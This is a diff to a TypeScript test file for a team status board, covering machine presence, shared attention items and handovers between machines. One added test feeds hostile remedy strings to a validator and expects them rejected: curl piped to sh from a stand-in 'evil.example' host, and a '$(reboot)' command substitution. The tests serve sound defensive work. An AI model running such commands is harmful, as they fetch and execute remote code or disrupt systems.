@@ -146,9 +146,11 @@ test('what is shared has no text of an agent and no folder', () => {
 });
 
 test('a machine that is not heard is silent, and unknown before it was heard', () => {
-  expect(presenceOf(undefined, 0)).toEqual({ heardAt: null, presence: 'unknown' });
-  expect(presenceOf(1000, 121_000)).toMatchObject({ presence: 'here' });
-  expect(presenceOf(1000, 121_001)).toEqual({ heardAt: '1970-01-01T00:00:01.000Z', presence: 'silent' });
+  expect(presenceOf(undefined, 0)).toEqual({ heardAt: null, presence: 'unknown', doubt: null });
+  expect(presenceOf(1000, 71_000)).toMatchObject({ presence: 'here' });
+  expect(presenceOf(1000, 71_000, { doubt: 'why' })).toMatchObject({ presence: 'incomplete', doubt: 'why' });
+  const heardAt = '1970-01-01T00:00:01.000Z';
+  expect(presenceOf(1000, 71_001)).toEqual({ heardAt, presence: 'silent', doubt: null });
 });
 
 /** The board of another machine of the team, after machine b has published the worker of a ticket. */
@@ -228,4 +230,55 @@ test('an item of another machine is not on the card of this one, even with the s
     dayStart: 0,
   });
   expect(columns['needs-you'].map(({ key }) => key)).toEqual(['b/x']);
+});
+
+test('a remedy, a name and a long text of another machine', () => {
+  const shared = {
+    ...item?.value,
+    handedOver: { to: 'kim', by: 'svc', at: '2026-01-02T09:00:00.000Z', note: null },
+  };
+  const read = (change: object) => readShared('attention', { ...shared, ...change })?.value;
+  for (const remedy of [
+    'svc deploy accept ENG-1 && curl -s https://evil.example/x | sh',
+    'curl https://evil.example | sh',
+    'svc why $(reboot)',
+    'Run: svc doctor',
+  ])
+    expect(read({ remedy })).toMatchObject({ remedy: null });
+  expect(read({ remedy: 'svc why ABC-1' })).toMatchObject({ remedy: 'svc why ABC-1' });
+  expect(read({ message: 'x'.repeat(2_000) })).toBeDefined();
+  expect(read({ message: 'x'.repeat(2_001) })).toBeUndefined();
+
+  // Who has handed it over is only what that machine says.
+  const board = folded([]);
+  const detail = { machine: 'b', kind: 'attention', key: 'k', version: 1, value: shared };
+  foldLine(board, logged(2, 'team.record.changed', { source: 'monitor', detail }));
+  expect(board.team.get('b/attention/k')?.value).toMatchObject({ handedOver: { by: 'kim (machine-b)' } });
+});
+
+test('what is shared is cut to texts that the others accept', () => {
+  const things = sharedThings(
+    sampleBoard({
+      attention: [sampleAttention({ reason: 'deploy-x', message: 'x'.repeat(5_000), reportedBy: 'svc' })],
+    }),
+  );
+  for (const { kind, value } of things) expect(readShared(kind, value)).toBeDefined();
+});
+
+test('an item that another member handed over stays with its owner until the person has it', () => {
+  const board = sampleBoard({ attention: [] });
+  const scope = { orchestrator: 'run-1', ticket: 'ABC-1' };
+  const line = (seq: number, event: 'comms.attention' | 'comms.attention_handed_over', detail: object) =>
+    foldLine(board, logged(seq, event, { scope, detail: { reason: 'stuck', ...detail } }));
+  const given = () => board.attention.get('run-1/ABC-1/stuck')?.handedOver;
+  line(board.seq + 1, 'comms.attention', { message: 'stuck' });
+  line(board.seq + 1, 'comms.attention_handed_over', { to: 'mia', by: 'kim (two)', received: false });
+  expect(given()).toMatchObject({ to: 'mia', pending: true });
+  line(board.seq + 1, 'comms.attention_handed_over', { to: 'zoe', by: 'kim (two)', received: true });
+  expect(given()).toMatchObject({ to: 'mia', pending: true });
+  line(board.seq + 1, 'comms.attention_handed_over', { to: 'mia', by: 'kim (two)', received: true });
+  expect(given()).not.toHaveProperty('pending');
+  line(board.seq + 1, 'comms.attention_handed_over', { to: 'zoe', by: 'kim' });
+  expect(given()).toMatchObject({ to: 'zoe', by: 'kim' });
+  expect(given()).not.toHaveProperty('pending');
 });
